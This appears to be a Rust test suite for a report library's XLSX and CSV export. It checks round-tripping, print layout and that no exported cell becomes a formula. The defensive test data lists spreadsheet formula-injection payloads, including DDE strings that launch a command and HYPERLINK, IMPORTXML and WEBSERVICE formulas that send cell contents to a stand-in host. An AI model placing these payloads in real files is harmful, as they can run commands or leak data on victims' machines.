//! What goes out as a table comes back the same, and nothing in it can run.

use calamine::{Data, Reader};
use jiff::civil::Date;
use mainstay_report::svg::{ChartRow, ChartTable, RowFigure};
use mainstay_report::table::{
    Cell, ColumnKind, CsvOptions, Separator, SheetOut, TableProblem, csv_document, csv_sheet,
    unguarded, xlsx_document,
};
use proptest::prelude::*;

use crate::table_samples::{
    all_kinds, any_cell, assert_reads_back, column, csv_rows, document, open, part, read,
};

/// Texts that spreadsheets have been known to run, or to split into something that runs.
const PAYLOADS: [&str; 30] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
    "=WEBSERVICE(\"http://evil.example/\"&A1)",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u{a0}=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\"=1+1\"",
    "\",=1+1,\"",
    "a;=1+1;b",
    "a\n=1+1\nb",
    "'=1+1",
    "''=1+1",
    "=",
    "-",
    "{=1+1}",
    "_x003D_1+1",
];

#[test]
fn a_workbook_holds_real_numbers_days_and_notes() {
    let document = document(vec![all_kinds()]);
    let bytes = xlsx_document(&document).unwrap();
    assert_eq!(open(&bytes).sheet_names(), ["Scorecard", "Notes"]);
    assert_reads_back(&document.sheets[0], &read(&bytes, "Scorecard"));
    let notes = read(&bytes, "Notes");
    assert_eq!(
        notes[2],
        [
            Data::String("Coverage".into()),
            Data::String("11 of 14 partners".into())
        ]
    );
    assert_eq!(
        bytes,
        xlsx_document(&document).unwrap(),
        "equal documents give equal bytes"
    );
}

#[test]
fn a_workbook_is_ready_to_read_and_print() {
    let bytes = xlsx_document(&document(vec![all_kinds()])).unwrap();
    let sheet = part(&bytes, "xl/worksheets/sheet1.xml");
    for expected in [
        "<pane ySplit=\"1\" topLeftCell=\"A2\"",
        "orientation=\"landscape\"",
        "<pageSetUpPr fitToPage=\"1\"/>",
        "fitToHeight=\"0\"",
        "Scorecard of Q3 2026 &amp;&amp; notes",
    ] {
        assert!(sheet.contains(expected), "{expected} in {sheet}");
    }
    assert!(part(&bytes, "xl/workbook.xml").contains("_xlnm.Print_Titles"));
    let styles = part(&bytes, "xl/styles.xml");
    for expected in ["#,##0.0", "0.0%", "yyyy-mm-dd"] {
        assert!(styles.contains(expected), "{expected} in {styles}");
    }
}

fn payload_sheet() -> SheetOut {
    SheetOut {
        name: "Payloads".into(),
        columns: vec![
            column("=1+1", ColumnKind::Text),
            column("Number", ColumnKind::Number { decimals: 0 }),
        ],
        rows: PAYLOADS
            .iter()
            .map(|payload| vec![(*payload).into(), Cell::Number(-5.0)])
            .collect(),
    }
}

#[test]
fn nothing_in_a_workbook_is_a_formula() {
    let sheet = payload_sheet();
    let bytes = xlsx_document(&document(vec![sheet.clone()])).unwrap();
    assert_reads_back(&sheet, &read(&bytes, "Payloads"));
    let formulas = open(&bytes).worksheet_formula("Payloads").unwrap();
    assert!(formulas.cells().all(|(_, _, formula)| formula.is_empty()));
    assert!(!part(&bytes, "xl/worksheets/sheet1.xml").contains("<f>"));
}

#[test]
fn csv_guards_text_and_leaves_numbers_alone() {
    for separator in [Separator::Comma, Separator::Semicolon] {
        let bytes = csv_sheet(
            &payload_sheet(),
            CsvOptions {
                separator,
                byte_order_mark: false,
            },
        );
        let mark = if separator == Separator::Comma {
            b','
        } else {
            b';'
        };
        let rows = csv_rows(&bytes, mark);
        assert_eq!(rows[0][0], "'=1+1");
        for (payload, row) in PAYLOADS.iter().zip(&rows[1..]) {
            assert!(
                !row[0]
                    .trim_start()
                    .starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']),
                "{row:?}"
            );
            assert_eq!(unguarded(&row[0], separator.other()), *payload);
            assert_eq!(row[1], "-5");
        }
    }
}

#[test]
fn csv_is_one_table_a_file_with_its_notes_beside_it() {
    let files = csv_document(
        &document(vec![all_kinds()]),
        CsvOptions {
            byte_order_mark: true,
            ..CsvOptions::default()
        },
    );
    let names: Vec<&str> = files.iter().map(|file| file.name.as_str()).collect();
    assert_eq!(names, ["Scorecard", "Notes"]);
    assert_eq!(
        String::from_utf8(files[0].bytes.clone()).unwrap(),
        "\u{feff}Indicator,Value,Share,People,Year,Date\r\n\
         Readiness,-5.25,0.713,12345,2026,2026-09-30\r\n\
         00123,Hidden: fewer than 11,,0,,\r\n\
         \"Größe, “ñ” 家\",,0.30000000000000004,,,\r\n"
    );
}

#[test]
fn a_chart_downloads_the_numbers_drawn() {
    let row = |label: &str, figure| ChartRow {
        label: label.into(),
        figure,
        text: String::new(),
        note: "n".into(),
    };
    let table = ChartTable {
        headings: ["Area".into(), "People".into(), "Note".into()],
        rows: vec![
            row("North", RowFigure::Value(412.0)),
            row("South", RowFigure::Range(230.0, 318.0)),
            row("East", RowFigure::None("Hidden".into())),
        ],
        references: Vec::new(),
    };
    let sheet = SheetOut::of_chart(
        "Breakdown",
        &table,
        ColumnKind::Integer,
        "At least",
        "At most",
    );
    let text = String::from_utf8(csv_sheet(&sheet, CsvOptions::default())).unwrap();
    assert_eq!(
        text,
        "Area,People,At least,At most,Note\r\nNorth,412,,,n\r\nSouth,,230,318,n\r\nEast,Hidden,,,n\r\n"
    );
}

#[test]
fn what_a_workbook_cannot_hold_is_refused_with_its_place() {
    let mut sheet = all_kinds();
    sheet.rows[1][0] = Cell::Text("x".repeat(32_768));
    let problem = xlsx_document(&document(vec![sheet])).unwrap_err();
    assert_eq!(
        problem,
        TableProblem::TextTooLong {
            sheet: "Scorecard".into(),
            row: 3,
            column: "Indicator".into()
        }
    );
    assert_eq!(
        problem.to_string(),
        "sheet “Scorecard”, row 3, column “Indicator” holds more than 32,767 characters: shorten the text, or choose CSV"
    );
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(100))]

    #[test]
    fn any_table_reads_back_from_a_workbook_and_from_csv(
        rows in proptest::collection::vec(proptest::collection::vec(any_cell(), 3), 1..12)
    ) {
        let columns = vec![
            column("A", ColumnKind::Text),
            column("B", ColumnKind::Number { decimals: 1 }),
            column("C", ColumnKind::Date),
        ];
        let sheet = SheetOut { name: "T".into(), columns, rows };
        assert_reads_back(&sheet, &read(&xlsx_document(&document(vec![sheet.clone()])).unwrap(), "T"));
        let options = CsvOptions { separator: Separator::Semicolon, byte_order_mark: false };
        let back = csv_rows(&csv_sheet(&sheet, options), b';');
        prop_assert_eq!(back.len(), sheet.rows.len() + 1);
        for (row, read) in sheet.rows.iter().zip(&back[1..]) {
            for (cell, text) in row.iter().zip(read) {
                match cell {
                    Cell::Text(words) => prop_assert_eq!(&unguarded(text, ','), words),
                    Cell::Number(number) => prop_assert_eq!(text.parse::<f64>().unwrap(), *number),
                    Cell::Date(day) => prop_assert_eq!(text.parse::<Date>().unwrap(), *day),
                    Cell::Blank => prop_assert_eq!(text, ""),
                }
            }
        }
    }
}
